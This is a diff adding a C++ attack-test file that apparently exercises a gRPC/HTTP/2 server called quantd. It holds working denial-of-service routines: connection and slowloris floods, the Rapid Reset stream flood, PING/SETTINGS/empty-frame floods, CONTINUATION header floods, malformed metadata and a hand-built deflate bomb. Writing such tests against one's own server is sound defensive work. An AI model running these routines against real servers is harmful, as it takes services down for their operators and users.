@@ -1,0 +1,358 @@
+// Attacks on HTTP/2 and what is below it: frames, header blocks, handshakes
+// and connections.
+#include <atomic>
+#include <chrono>
+#include <memory>
+#include <string>
+#include <utility>
+#include <vector>
+
+#include "tests/attack/attacks.h"
+#include "tests/attack/requests.h"
+
+namespace quantd::attack {
+namespace {
+
+using std::chrono::milliseconds;
+
+constexpr size_t kMiB = 1 << 20;
+
+void HoldBare(Assault& assault, Socket& socket) {
+  std::string ignored;
+  while (!assault.over() && socket.alive()) {
+    socket.Receive(&ignored, milliseconds(100));
+    ignored.clear();
+  }
+}
+
+void ConnectionFlood(Assault& assault) {
+  assault.OnBareConnections(200,
+                            [&](Socket& socket) { HoldBare(assault, socket); });
+}
+
+// Connections that are open and well-behaved, 600 of them.
+void IdleConnections(Assault& assault) {
+  assault.OnConnections(20, {}, [&](Http2Peer& first) {
+    std::vector<std::unique_ptr<Http2Peer>> peers;
+    while (!assault.over() && first.alive()) {
+      if (peers.size() < 29) {
+        auto peer = Http2Peer::Connect(assault.target(), {}, assault.end());
+        if (peer != nullptr) peers.push_back(std::move(peer));
+      } else {
+        assault.Sleep(milliseconds(50));
+      }
+      for (const auto& peer : peers) peer->Pump();
+      first.Pump();
+      std::erase_if(peers, [](const auto& peer) { return !peer->alive(); });
+    }
+  });
+}
+
+// Connections, with TLS handshakes, that are dropped as soon as they are made.
+void ConnectionChurn(Assault& assault) {
+  assault.OnConnections(8, {}, [&](Http2Peer&) {
+    while (!assault.over() &&
+           Http2Peer::Connect(assault.target(), {}, assault.end()) != nullptr) {
+      assault.Sleep(milliseconds(10));
+    }
+  });
+}
+
+// One byte of `text` at a time.
+void SlowlySay(Assault& assault, std::string_view text) {
+  assault.OnBareConnections(200, [&](Socket& socket) {
+    for (const char& byte : text) {
+      if (assault.over() || !socket.Send({&byte, 1})) return;
+      assault.Sleep(milliseconds(500));
+    }
+    HoldBare(assault, socket);
+  });
+}
+
+void SlowPreface(Assault& assault) {
+  SlowlySay(assault, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
+}
+
+// The head of a TLS record, and of the ClientHello of 512 bytes in it.
+void HalfHandshake(Assault& assault) {
+  using namespace std::literals;
+  SlowlySay(assault, "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"sv);
+}
+
+// CVE-2023-44487: streams that are over before they began cost the client
+// nothing and count against no limit.
+void ResetFlood(Assault& assault) {
+  assault.OnConnections(4, {}, [&](Http2Peer& peer) {
+    while (!assault.over() && peer.alive()) {
+      for (int i = 0; i < 100; ++i) peer.Reset(peer.Open(kQuantize));
+      peer.Pump();
+    }
+  });
+}
+
+// The same where no token is asked for, of calls that have begun.
+void WatchResets(Assault& assault) {
+  assault.OnConnections(4, {}, [&](Http2Peer& peer) {
+    while (!assault.over() && peer.alive()) {
+      for (int i = 0; i < 100; ++i) {
+        const uint32_t stream = peer.Open(kWatch);
+        peer.SendMessage(stream, "");
+        peer.Reset(stream);
+      }
+    }
+  });
+}
+
+// Frames that ask for an answer or for work, as fast as they go. Answers
+// are not read where the habits say so.
+void FloodOf(Assault& assault, const Habits& habits, const std::string& frame) {
+  std::string many;
+  while (many.size() < (32 << 10)) many += frame;
+  assault.OnConnections(4, habits, [&](Http2Peer& peer) {
+    while (!assault.over() && peer.SendRaw(many)) peer.Pump();
+  });
+}
+
+void PingFlood(Assault& assault) {
+  FloodOf(assault, {.respect_windows = false, .read = false},
+          FrameHead(8, kPing, kNone, 0) + Octets(0, 8));
+}
+
+// A client's window of 0 and of much, in turn, over 200 open streams.
+void SettingsFlood(Assault& assault) {
+  std::string many;
+  for (int i = 0; i < 500; ++i) {
+    many += FrameHead(6, kSettings, kNone, 0) + Octets(4, 2) +
+            Octets(i % 2 ? 0 : 1 << 20, 4);
+  }
+  assault.OnConnections(4, {}, [&](Http2Peer& peer) {
+    for (int i = 0; i < 200; ++i) peer.SendMessage(peer.Open(kWatch), "");
+    while (!assault.over() && peer.SendRaw(many)) peer.Pump();
+  });
+}
+
+// DATA without data costs no window.
+void EmptyFrames(Assault& assault) {
+  assault.OnConnections(4, {}, [&](Http2Peer& peer) {
+    const uint32_t stream = peer.Open(kQuantize);
+    std::string many;
+    for (int i = 0; i < 4096; ++i) many += FrameHead(0, kData, kNone, stream);
+    while (!assault.over() && peer.SendRaw(many)) peer.Pump();
+  });
+}
+
+// For who is in the middle of a header block: a frame of another kind would
+// end the connection.
+constexpr Habits kMute = {.respect_windows = false, .read = false};
+
+// CVE-2023-33953: the limit on a call's metadata is looked at frame by frame,
+// so that a header block of many frames has none. A field of the dynamic
+// table costs a byte to name and dozens to keep.
+void EndlessHeaders(Assault& assault) {
+  constexpr int kFieldsInFrame = 400;
+  constexpr size_t kMostFrames = 4 * kMiB / kFieldsInFrame;
+  const std::string into_table = std::string("\x40\x01") + "a" + "\x01" + "b";
+  const std::string from_table(kFieldsInFrame, '\xbe');
+  assault.OnConnections(4, kMute, [&](Http2Peer& peer) {
+    const uint32_t stream = peer.NextStream();
+    peer.SendFrame(kHeaders, kNone, stream,
+                   peer.HeaderBlock(kCheck) + into_table);
+    for (size_t i = 0; i < kMostFrames && !assault.over(); ++i) {
+      if (!peer.SendFrame(kContinuation, kNone, stream, from_table)) return;
+    }
+    assault.Hold(peer);
+  });
+}
+
+// A field's name of 32 MiB: it is gathered whole before it is looked at, and
+// what has been gathered is copied for every frame that comes.
+void EndlessName(Assault& assault) {
+  constexpr size_t kName = 32 * kMiB;
+  const std::string part(16384, 'n');
+  // A literal, its length: 127 in the first 7 bits and the rest in three
+  // octets more.
+  std::string head("\0\x7f", 2);
+  size_t rest = kName - 127;
+  for (; rest >= 128; rest /= 128) {
+    head.push_back(static_cast<char>(rest % 128 + 128));
+  }
+  head.push_back(static_cast<char>(rest));
+  assault.OnConnections(4, kMute, [&](Http2Peer& peer) {
+    const uint32_t stream = peer.NextStream();
+    peer.SendFrame(kHeaders, kNone, stream, peer.HeaderBlock(kCheck) + head);
+    for (size_t sent = 0; sent < kName && !assault.over();) {
+      if (!peer.SendFrame(kContinuation, kNone, stream, part)) return;
+      sent += part.size();
+    }
+    assault.Hold(peer);
+  });
+}
+
+// Legal metadata of 13 KiB for 450 bytes, on calls that never end.
+void HoardedHeaders(Assault& assault) {
+  const std::string into_table = std::string("\x40\x01") + "a" + "\x01" + "b";
+  assault.OnConnections(16, {}, [&](Http2Peer& peer) {
+    for (int i = 0; i < 250 && peer.alive() && !assault.over(); ++i) {
+      const uint32_t stream = peer.NextStream();
+      peer.SendFrame(kHeaders, kEndHeaders, stream,
+                     peer.HeaderBlock(kWatch) + (i == 0 ? into_table : "") +
+                         std::string(380, '\xbe'));
+      peer.BeginMessage(stream, 0);
+      peer.EndStream(stream);
+    }
+    assault.Hold(peer);
+  });
+}
+
+// CVE-2023-1428: values that have no way back to text, and then more metadata
+// than is allowed.
+void PoisonedHeaders(Assault& assault) {
+  const Metadata poisons = {{"grpclb_client_stats", "x"},
+                            {"te", "x"},
+                            {":scheme", "x"},
+                            {"content-type", "x"},
+                            {"grpc-timeout", "x"},
+                            {"grpc-encoding", "x"},
+                            {":method", "x"}};
+  const std::string much(20000, 'x');
+  std::atomic<size_t> next = 0;
+  assault.OnConnections(1, {}, [&](Http2Peer& peer) {
+    const auto& poison = poisons[next++ % poisons.size()];
+    for (const char* path : {kCheck, kQuantize}) {
+      peer.Open(path, {poison});
+      peer.Pump(milliseconds(10));
+    }
+    // Larger than a frame.
+    const std::string block = peer.HeaderBlock(kCheck, {poison, {"x", much}});
+    const uint32_t stream = peer.NextStream();
+    peer.SendFrame(kHeaders, kNone, stream, block.substr(0, 16384));
+    peer.SendFrame(kContinuation, kEndHeaders, stream, block.substr(16384));
+    peer.AwaitEnd(stream, milliseconds(20));
+  });
+}
+
+// A zlib stream of zeros, 158 for every byte of it: matches of 258 zeros, of
+// 13 bits each.
+std::string DeflatedZeros(size_t bytes) {
+  std::string stream("\x78\x01", 2);
+  uint32_t bits = 0;
+  int held = 0;
+  const auto put = [&](uint32_t value, int count) {
+    bits |= value << held;
+    for (held += count; held >= 8; held -= 8, bits >>= 8) {
+      stream.push_back(static_cast<char>(bits));
+    }
+  };
+  put(0b011, 3);       // the last block, fixed codes
+  put(0b00001100, 8);  // a literal zero; codes go in from their first bit
+  while (stream.size() < bytes) {
+    put(0b10100011, 8);  // a match of 258 ...
+    put(0, 5);           // ... at distance 1
+  }
+  return stream;
+}
+
+// Compression is not offered. Whoever uses it all the same has his message
+// made 158 times as long before anything looks at its length.
+void CompressedZeros(Assault& assault) {
+  const std::string bomb = DeflatedZeros(3 * kMiB);
+  assault.OnConnections(2, {}, [&](Http2Peer& peer) {
+    while (!assault.over() && peer.alive()) {
+      for (const char* path : {kCheck, kQuantize}) {
+        const uint32_t stream = peer.Open(
+            path, {{"grpc-encoding", "deflate"},
+                   {"quantd-request-bytes", std::to_string(bomb.size())}});
+        peer.BeginMessage(stream, static_cast<uint32_t>(bomb.size()), true);
+        peer.SendBody(stream, bomb);
+        peer.EndStream(stream);
+        peer.AwaitEnd(stream, milliseconds(2000));
+      }
+    }
+  });
+}
+
+constexpr Attack kRows[] = {
+    {.name = "connection_flood",
+     .what = "200 silent connections, 64 descriptors",
+     .run = ConnectionFlood,
+     .connections = 8,
+     .call_bytes = 4 << 10,
+     .descriptors = 64},
+    {.name = "idle_connections",
+     .what = "600 idle connections",
+     .run = IdleConnections,
+     .connections = 64,
+     .call_bytes = 4 << 10},
+    {.name = "connection_churn",
+     .what = "800 connections a second, dropped at once",
+     .run = ConnectionChurn,
+     .connections = 8,
+     .call_bytes = 4 << 10},
+    {.name = "slow_preface",
+     .what = "200 connections, a byte every 500 ms",
+     .run = SlowPreface,
+     .connections = 64,
+     .call_bytes = 4 << 10},
+    {.name = "half_handshake",
+     .what = "200 beginnings of a TLS handshake",
+     .run = HalfHandshake,
+     .connections = 64,
+     .call_bytes = 4 << 10},
+    {.name = "reset_flood",
+     .what = "streams opened and reset at full rate",
+     .run = ResetFlood,
+     .connections = 4,
+     .call_bytes = 4 << 10},
+    {.name = "watch_resets",
+     .what = "Health/Watch opened and reset at full rate",
+     .run = WatchResets,
+     .connections = 4,
+     .call_bytes = 4 << 10,
+     .moment = milliseconds(1500)},
+    {.name = "ping_flood",
+     .what = "PING at full rate, answers not read",
+     .run = PingFlood,
+     .connections = 4,
+     .call_bytes = 4 << 10},
+    {.name = "settings_flood",
+     .what = "SETTINGS at full rate over 4 x 200 streams",
+     .run = SettingsFlood,
+     .connections = 4,
+     .call_bytes = 4 << 10},
+    {.name = "empty_frames",
+     .what = "empty DATA frames at full rate",
+     .run = EmptyFrames,
+     .connections = 4,
+     .call_bytes = 4 << 10},
+    {.name = "endless_headers",
+     .what = "4 header blocks of 4 Mi indexed fields",
+     .run = EndlessHeaders,
+     .connections = 4,
+     .call_bytes = 4 << 10},
+    {.name = "endless_name",
+     .what = "4 header names of 32 MiB",
+     .run = EndlessName,
+     .connections = 4,
+     .call_bytes = 16 * kMiB},
+    {.name = "hoarded_headers",
+     .what = "13 KiB of metadata on 4,000 streams",
+     .run = HoardedHeaders,
+     .connections = 16,
+     .call_bytes = 4 << 10,
+     .moment = milliseconds(600)},
+    {.name = "poisoned_headers",
+     .what = "header values that are no good",
+     .run = PoisonedHeaders,
+     .moment = milliseconds(600)},
+    {.name = "compressed_zeros",
+     .what = "474 MiB in a compressed message of 3 MiB",
+     .run = CompressedZeros,
+     .connections = 2,
+     .call_bytes = 4 * kMiB},
+};
+
+}  // namespace
+
+std::span<const Attack> ProtocolAttacks() { return kRows; }
+
+}  // namespace quantd::attack
